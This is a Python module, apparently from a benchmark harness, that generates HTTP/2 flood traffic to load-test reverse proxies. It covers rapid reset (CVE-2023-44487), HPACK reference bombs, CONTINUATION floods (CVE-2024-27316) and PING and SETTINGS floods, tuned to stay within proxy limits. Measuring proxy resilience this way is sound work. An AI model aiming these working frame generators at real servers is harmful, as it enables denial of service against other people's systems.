"""The floods of HTTP/2: frames by the batch. Pure.

What a proxy refuses at once costs it a connection and the attacker one, too: he opens the next, with its handshake. Heads are kept
below what HAProxy takes (15 KiB, where nginx and lbproxy take 32 KiB), so that all do the work.
"""

from __future__ import annotations

from collections.abc import Callable
from itertools import pairwise
from typing import NamedTuple

from bench.attacks.shapes import Ground
from bench.h2 import wire

AT_ONCE = 100
"""Streams that an attacker has under way at once where he waits for answers: as many as all of the proxies take."""
RESETS = 300
CONTROL = 500
"""Frames of a batch that open no streams."""
PING = b"pingpong"
PIECES = 7
"""CONTINUATION frames of a head, where lbproxy takes eight."""
ENDLESS = 64
VALUE = 4000
"""Bytes of a value that the table of the connection (4,096) just takes."""
REFERENCES = 3
"""To that value, one byte each: heads of 12 KiB."""


class Batch(NamedTuple):
    """Frames that are sent together."""

    frames: bytes
    streams: tuple[int, ...] = ()
    """Those that it opens."""


class H2Shape(NamedTuple):
    """An attack."""

    told: str
    batch: Callable[[int], Batch]
    """The next one, whose first stream is the given one."""
    waits: bool = False
    """Until all streams of a batch have ended, before the next one is sent."""
    table: bytes = b""
    """A list of fields that comes before all batches, as a request of its own, to fill the table of the connection."""
    answer: bytes = b""
    """The frame with which each frame of a batch is answered."""
    ground: Ground = "plain"
    """Over TLS; a proxy as the first attacks have it."""
    received: bool = False
    connections: int = 50


def _streams(first: int, count: int) -> tuple[int, ...]:
    return tuple(range(first, first + 2 * count, 2))


def _each(first: int, count: int, block: bytes) -> Batch:
    """So many whole requests."""
    streams = _streams(first, count)
    flags = wire.END_HEADERS | wire.END_STREAM
    return Batch(b"".join([wire.frame(wire.HEADERS, flags, stream, block) for stream in streams]), streams)


def resets(first: int) -> Batch:
    """Each request is given up in the frame behind it ("rapid reset", CVE-2023-44487)."""
    flags, block, code = wire.END_HEADERS | wire.END_STREAM, wire.request(), wire.CANCEL.to_bytes(4, "big")
    streams = _streams(first, RESETS)
    pairs = [wire.frame(wire.HEADERS, flags, each, block) + wire.frame(wire.RST_STREAM, 0, each, code) for each in streams]
    return Batch(b"".join(pairs), streams)


def references(first: int) -> Batch:
    """A dozen bytes that mean 12 KiB ("HPACK bomb")."""
    return _each(first, AT_ONCE, wire.request() + wire.indexed(62) * REFERENCES)


def long_heads(first: int) -> Batch:
    """Fields of which none was seen before, 7 KiB of them."""
    return _each(first, AT_ONCE, wire.request(fields=[(b"x-%d-%d" % (first, number), b"y" * 200) for number in range(30)]))


def continuations(first: int) -> Batch:
    """Heads in eight frames."""
    block = wire.request(fields=[(b"x-%d" % number, b"y" * 20) for number in range(8)])
    cuts = [len(block) * number // (PIECES + 1) for number in range(PIECES + 2)]
    pieces = [block[start:end] for start, end in pairwise(cuts)]
    streams = _streams(first, AT_ONCE)
    frames = []
    for stream in streams:
        frames.append(wire.frame(wire.HEADERS, wire.END_STREAM, stream, pieces[0]))
        frames += [wire.frame(wire.CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
        frames.append(wire.frame(wire.CONTINUATION, wire.END_HEADERS, stream, pieces[-1]))
    return Batch(b"".join(frames), streams)


def endless(first: int) -> Batch:
    """A head that goes on and on, and whose request never begins ("CONTINUATION flood", CVE-2024-27316 and others)."""
    field = wire.literal(b"x", b"y" * 20)
    begin = wire.frame(wire.HEADERS, wire.END_STREAM, first, wire.request()) if first == 1 else b""
    return Batch(begin + wire.frame(wire.CONTINUATION, 0, 1, field) * ENDLESS, (first,))


def pings(first: int) -> Batch:
    """Each has to be answered."""
    return Batch(wire.frame(wire.PING, payload=PING) * CONTROL)


def settings(first: int) -> Batch:
    """Each has to be acknowledged, and changes the windows of all streams there and back."""
    pair = [
        wire.frame(wire.SETTINGS, payload=wire.INITIAL_WINDOW.to_bytes(2, "big") + size.to_bytes(4, "big"))
        for size in (1 << 16, 1 << 20)
    ]
    return Batch(b"".join(pair) * (CONTROL // 2))


H2_SHAPES: dict[str, H2Shape] = {
    "h2-resets": H2Shape("HTTP/2: requests that are given up at once", resets),
    "h2-references": H2Shape(
        "HTTP/2: 100 requests at once, heads of 12 KiB made of references to a value of 4,000 bytes",
        references,
        waits=True,
        table=wire.literal(b"x-long", b"v" * VALUE, first=0x40),
    ),
    "h2-heads": H2Shape("HTTP/2: 100 requests at once, heads of 7 KiB that nobody has seen before", long_heads, waits=True),
    "h2-continuations": H2Shape("HTTP/2: 100 requests at once, heads in eight frames", continuations, waits=True),
    "h2-endless": H2Shape("HTTP/2: a head in CONTINUATION frames that never ends", endless),
    "h2-pings": H2Shape("HTTP/2: PING, PING, PING", pings, answer=wire.frame(wire.PING, wire.ACK, payload=PING)),
    "h2-settings": H2Shape("HTTP/2: SETTINGS, windows there and back", settings, answer=wire.frame(wire.SETTINGS, wire.ACK)),
}
